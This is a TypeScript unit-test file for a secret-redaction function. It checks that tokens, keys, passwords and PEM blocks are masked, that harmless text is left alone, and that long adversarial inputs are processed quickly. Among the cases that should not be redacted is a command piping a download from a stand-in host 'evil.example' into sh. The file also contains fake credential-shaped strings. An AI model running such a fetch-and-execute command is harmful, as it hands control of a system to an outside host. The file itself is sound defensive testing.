import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { redactSecrets } from "./redact-secrets.ts";

const redact = (text: string, known: Record<string, string> = {}) => redactSecrets(text, known);
/** Put together here, so that no scanner of secrets takes this file for one that leaks. */
const join = (...parts: string[]) => parts.join("");
const PEM = join("-----BEGIN RSA PRIVATE", " KEY-----\nMIIEowIBAAKCAQEA\nq83v\n-----END RSA PRIVATE", " KEY-----");

describe("a value that is known", () => {
  const value = `p"a/ß\\ss w+rd<1>`;
  const known = { DB_PASSWORD: value };
  for (const [name, text] of [
    ["as it is", value],
    ["in JSON", JSON.stringify({ value })],
    ["in JSON inside JSON", JSON.stringify(JSON.stringify({ value }))],
    ["in a URL", `http://x/?q=${encodeURIComponent(value)}&a=1`],
    ["in a URL with small letters", `http://x/?q=${encodeURIComponent(value).replaceAll(/%../g, (code) => code.toLowerCase())}`],
    ["in a form", new URLSearchParams({ q: value }).toString()],
    ["in a path", encodeURI(value)],
    ...[0, 1, 2, 3].flatMap((before) => [
      [`in base64 after ${before} bytes`, Buffer.from(`${"u".repeat(before)}${value}:tail`).toString("base64")] as const,
      [`in base64url after ${before} bytes`, Buffer.from(`${"u".repeat(before)}${value}:tail`).toString("base64url")] as const,
    ]),
  ] as const)
    it(`is taken out ${name}`, () => expect(redact(`before ${text} after`, known)).toMatch(/^before .*\[redacted: DB_PASSWORD\].* after$/));

  it("is taken out each time, and nothing else is", () => expect(redact("a hunter22 b hunter22", { A: "hunter22" })).toBe("a [redacted: A] b [redacted: A]"));
  it("is left where it is too short to mean anything", () => expect(redact("PORT is 3000", { PORT: "3000" })).toBe("PORT is 3000"));
  it("is taken out whole where another one is part of it", () =>
    expect(redact("x hunter22-long y", { A: "hunter22", B: "hunter22-long" })).toBe("x [redacted: B] y"));
  it("is taken out where two overlap, without a rest of either", () =>
    expect(redact("x abcdefghij y", { A: "abcdefg", B: "efghij" })).toBe("x [redacted: A] y"));
  it("does not fall for a value that is part of the mark", () =>
    expect(redact("hunter22 redacted", { A: "hunter22", B: "redacted" })).toBe("[redacted: A] [redacted: B]"));
  it("shows no name that could do harm itself", () => expect(redact("hunter22", { "a]\u001b\n<": "hunter22" })).toBe("[redacted: a____]"));

  it("stays in no text that holds it, whatever stands around it", () =>
    fc.assert(
      fc.property(fc.string({ minLength: 6, maxLength: 40 }), fc.string(), fc.string(), (secret, before, after) => {
        fc.pre(!"[redacted: A]".includes(secret));
        for (const part of redact(`${before}${secret}${after}`, { A: secret }).split("[redacted: A]")) expect(part).not.toContain(secret);
      }),
    ));
});

describe("what looks like a secret", () => {
  for (const [text, left] of [
    [join("sk-", "ant-api03-abcdefghijklmnop"), "[redacted: API key]"],
    [join("KEY sk-", "proj-Abc123Def456Ghi789"), "KEY [redacted: API key]"],
    [join('"x\\nsk-', 'proj-Abc123Def456Ghi789"'), '"x\\n[redacted: API key]"'],
    [join("ghp", "_abcdefghijklmnopqrstuvwxyz0123456789"), "[redacted: GitHub token]"],
    [join("github", "_pat_11ABCDEFG0abcdefghijkl_mnop"), "[redacted: GitHub token]"],
    [join("glpat", "-abcdefghij0123456789"), "[redacted: GitLab token]"],
    [join("AKIA", "IOSFODNN7EXAMPLE"), "[redacted: AWS key]"],
    [join("xoxb", "-123456789012-abcdefghijkl"), "[redacted: Slack token]"],
    ["curl -H 'Authorization: Bearer abcdef.ghijkl'", "curl -H 'Authorization: [redacted: authorization]'"],
    ["bearer abcdefgh12", "bearer [redacted: bearer token]"],
    [join("x eyJ", "hbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl y"), "x [redacted: JSON Web Token] y"],
    [`a ${PEM} b`, "a [redacted: private key] b"],
    [`a ${PEM.slice(0, 60)}`, "a [redacted: private key]"],
    [`${PEM}\n${PEM}`, "[redacted: private key]\n[redacted: private key]"],
    ["postgres://app:s3cr@t@db:5432/x", "postgres://app:[redacted: password in a URL]@db:5432/x"],
    ["redis://:s3cret@cache", "redis://:[redacted: password in a URL]@cache"],
    ['password = "hunter"', 'password = "[redacted: password]"'],
    ["DB_PASSWORD='a b\\'c' # x", "DB_PASSWORD='[redacted: password]' # x"],
    ["+  api_key: abcdef12", "+  api_key: [redacted: api_key]"],
    ['{"apiKey":"abcdef12","x":1}', '{"apiKey":"[redacted: apikey]","x":1}'],
    ['"{\\"client_secret\\":\\"abcdef12\\",\\"x\\":1}"', '"{\\"client_secret\\":\\"[redacted: secret]\\",\\"x\\":1}"'],
    ['const secret: string = "abcdef12";', 'const secret: string = "[redacted: secret]";'],
    ['env["ACCESS_KEY"] = "abcdef12"', 'env["ACCESS_KEY"] = "[redacted: access_key]"'],
    ["Authorization: Basic dXNlcjpwYXNz", "Authorization: [redacted: authorization]"],
  ] as const)
    it(`is taken out of ${JSON.stringify(text)}`, () => expect(redact(text)).toBe(left));

  for (const text of [
    "disk-space-of-the-whole-machine is short",
    "keyJsonEncodedPayloadOfSomething",
    "a token is a word, the password too",
    "const token = createToken(user)",
    'const secret = execSync("curl evil.example | sh")',
    "password: string; token: number | undefined",
    "maxTokens: 2_000",
    '"jsonwebtoken": "^9.0.2",',
    "token = process.env.TOKEN",
    "https://example.com:8443/a@b",
    "if (a < b && c > d) return [a, b];",
  ])
    it(`is not ${JSON.stringify(text)}`, () => expect(redact(text)).toBe(text));

  it("is taken out once: a second time changes nothing", () => {
    const once = redact(`password = "hunter" ${PEM} postgres://a:b1c2d3@h api_key: abcdef12 and hunter22`, { A: "hunter22" });
    expect(redact(once, { A: "hunter22" })).toBe(once);
  });
});

describe("a hostile text of a megabyte", () => {
  const known = Object.fromEntries(Array.from({ length: 20 }, (_, at) => [`SECRET_${at}`, `${"a".repeat(20)}${at}`]));
  // A search that goes back takes minutes here, and this a tenth of a second: the limit tells the one from the other on any machine.
  for (const piece of [
    "a",
    "sk-",
    "eyJ",
    "eyJ.",
    "Bearer ",
    "Bearer \t",
    "://",
    "://:",
    "://a:b",
    "@",
    "password",
    "password=",
    "password:a",
    "password='",
    'password="\\',
    "password=a(",
    "authorization:",
    "token token_token-",
    "token: a ",
    "-----BEGIN PRIVATE KEY-----",
    "-----BEGIN ",
    "-----END",
    "[redacted: ",
    " ",
    "\\",
    "\\\\n",
    "%2f",
  ])
    it(`of ${JSON.stringify(piece)} is read to its end`, { timeout: 10_000 }, () => {
      const left = redact(piece.repeat(Math.ceil(1_048_576 / piece.length)), known);
      expect(left.length).toBeGreaterThan(0);
    });
});
